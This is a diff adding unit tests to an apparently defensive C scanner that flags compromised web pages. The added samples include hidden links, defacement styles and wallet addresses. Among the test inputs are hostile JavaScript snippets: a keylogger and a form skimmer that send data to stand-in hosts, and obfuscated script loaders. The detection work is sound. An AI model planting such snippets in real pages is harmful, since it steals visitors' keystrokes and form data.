@@ -182,6 +182,117 @@ static void hosts_of_others_are_kept_and_ours_are_not(void **state)
 	look_free(look);
 }
 
+static void what_scripts_put_together_leads_somewhere(void **state)
+{
+	static const struct {
+		const char *script;
+		enum host_use use;
+		const char *host; /* NULL: none of that use */
+	} samples[] = {
+		{ "var a='https://',b='cdn.example.top';var s=document.createElement('script');s.src=a+b+'/x.js'",
+		  USE_SCRIPT, "cdn.example.top" },
+		{ "location=['htt','ps:/','/'+d+'.example.top'].join('')", USE_REFRESH, "example.top" },
+		{ "location.href='https://'+location.host;x.on('click.menu.open')", USE_REFRESH, NULL },
+		{ "s=document.createElement('script');s.src='https://'+h;x.on('click.menu.open')", USE_SCRIPT, NULL },
+		{ "document.onkeyup=function(e){k+=e.key;new Image().src='//taps.example/?'+k}", USE_FORM,
+		  "taps.example" },
+		{ "f.addEventListener('submit',function(){navigator.sendBeacon(atob('aHR0cHM6Ly90YXBzLmV4YW1wbGUvYQ==')"
+		  ","
+		  "new FormData(f))})",
+		  USE_FORM, "taps.example" },
+		{ "var "
+		  "u=[104,116,116,112,58,47,47,110,46,101,120,97,109,112,108,101].map(n=>String.fromCharCode(n)).join('"
+		  "');"
+		  "var s=document.createElement('script');s.src=u",
+		  USE_SCRIPT, "n.example" },
+		/* owners' own: a page for phones, https, a counter's old program, a form that is sent by a script */
+		{ "location.replace('https://m.'+location.host)", USE_REFRESH, NULL },
+		{ "location.href='https:'+location.href.substring(5)", USE_REFRESH, NULL },
+		{ "location.href='https://'+location.host+'/a'", USE_REFRESH, NULL },
+		{ "s=document.createElement('script');s.src=('https:'==p?'https://ssl':'http://www')+x", USE_SCRIPT,
+		  NULL },
+		{ "f.addEventListener('submit',function(){fetch('/api',{body:new FormData(f)})})", USE_FORM, NULL },
+	};
+	char html[1024];
+
+	(void)state;
+	for (size_t n = 0; n < COUNT(samples); n++) {
+		struct look *look;
+		unsigned count = 0;
+
+		snprintf(html, sizeof(html), "<script>%s</script>", samples[n].script);
+		look = look_of(html);
+		for (unsigned i = 0; i < look->host_count; i++)
+			count += look->hosts[i].use == samples[n].use;
+		if (samples[n].host ? !has_host(look, samples[n].use, samples[n].host) : count > 0)
+			fail_msg("%s: %u", samples[n].script, count);
+		look_free(look);
+	}
+}
+
+static void what_nobody_sees_is_hidden(void **state)
+{
+	static const struct {
+		const char *tag; /* around the link */
+		bool hidden;
+	} samples[] = {
+		{ "<div style='font-size:0'>", true },
+		{ "<div style='height:0;overflow:hidden'>", true },
+		{ "<div style='position:absolute;left:-5000px'>", true },
+		{ "<p style='color:#fff;background:#fff'>", true },
+		{ "<noscript>", true },
+		{ "<div style='font-size:0.9em'>", false },
+		{ "<div style='left:-10px'>", false },
+		{ "<div style='height:0'>", false },
+		{ "<p style='color:#fff;background:#000'>", false },
+	};
+	char html[256];
+
+	(void)state;
+	for (size_t n = 0; n < COUNT(samples); n++) {
+		struct look *look;
+
+		snprintf(html, sizeof(html), "%s<a href=https://spam.example/>x</a>", samples[n].tag);
+		look = look_of(html);
+		if (has_host(look, USE_HIDDEN_LINK, "spam.example") != samples[n].hidden)
+			fail_msg("%s", html);
+		look_free(look);
+	}
+}
+
+static unsigned dress_of(const char *html)
+{
+	struct look *look = look_of(html);
+	unsigned dress = look->dress;
+
+	look_free(look);
+	return dress;
+}
+
+static void styles_that_write_over_the_page_are_seen(void **state)
+{
+	(void)state;
+	assert_true(dress_of("<style>body > * {display:none!important}</style>") & DRESS_STYLED);
+	assert_true(dress_of("<style>html:after{position:fixed;inset:0;content:'All yours'}</style>") & DRESS_STYLED);
+	assert_true(points_of("<style>body:before{content:'Hacked by x'}</style>", PHRASE_CLAIM) >= 35);
+	assert_true(dress_of("<div style='position:fixed;inset:0'>x</div>") & DRESS_COVERED);
+	assert_int_equal(dress_of("<style>body{display:none}.a:before{content:'\\f101';position:fixed}</style>"), 0);
+	assert_int_equal(dress_of("<style>a:after{content:' (external)'}</style><div style='position:fixed'>x</div>"),
+			 0);
+}
+
+static void purses_and_digits_for_letters_are_known(void **state)
+{
+	(void)state;
+	assert_true(points_of("<p>Pay to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</p>", PHRASE_PURSE) > 0);
+	assert_true(points_of("<p>1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>", PHRASE_PURSE) > 0);
+	assert_true(points_of("<p>0x52908400098527886E0F7030069857D2E4169EE7</p>", PHRASE_PURSE) > 0);
+	assert_int_equal(
+		points_of("<p>d41d8cd98f00b204e9800998ecf8427e abc1234567890123456789012345</p>", PHRASE_PURSE), 0);
+	assert_true(points_of("<p>t0uch3d by the Sh4dow cr3w0f</p>", PHRASE_MARK) > 0);
+	assert_int_equal(points_of("<p>mp3player for B2B, log4j and i18n, a3f5c7d9</p>", PHRASE_MARK), 0);
+}
+
 static void pages_say_that_they_are_out_of_order(void **state)
 {
 	static const struct {
@@ -321,6 +432,10 @@ int main(void)
 		cmocka_unit_test(what_stands_there_often_weighs_no_more),
 		cmocka_unit_test(languages_are_told_by_letters_and_little_words),
 		cmocka_unit_test(hosts_of_others_are_kept_and_ours_are_not),
+		cmocka_unit_test(what_scripts_put_together_leads_somewhere),
+		cmocka_unit_test(what_nobody_sees_is_hidden),
+		cmocka_unit_test(styles_that_write_over_the_page_are_seen),
+		cmocka_unit_test(purses_and_digits_for_letters_are_known),
 		cmocka_unit_test(pages_say_that_they_are_out_of_order),
 		cmocka_unit_test(charsets_are_read_as_said),
 		cmocka_unit_test(numbers_change_no_shingle),
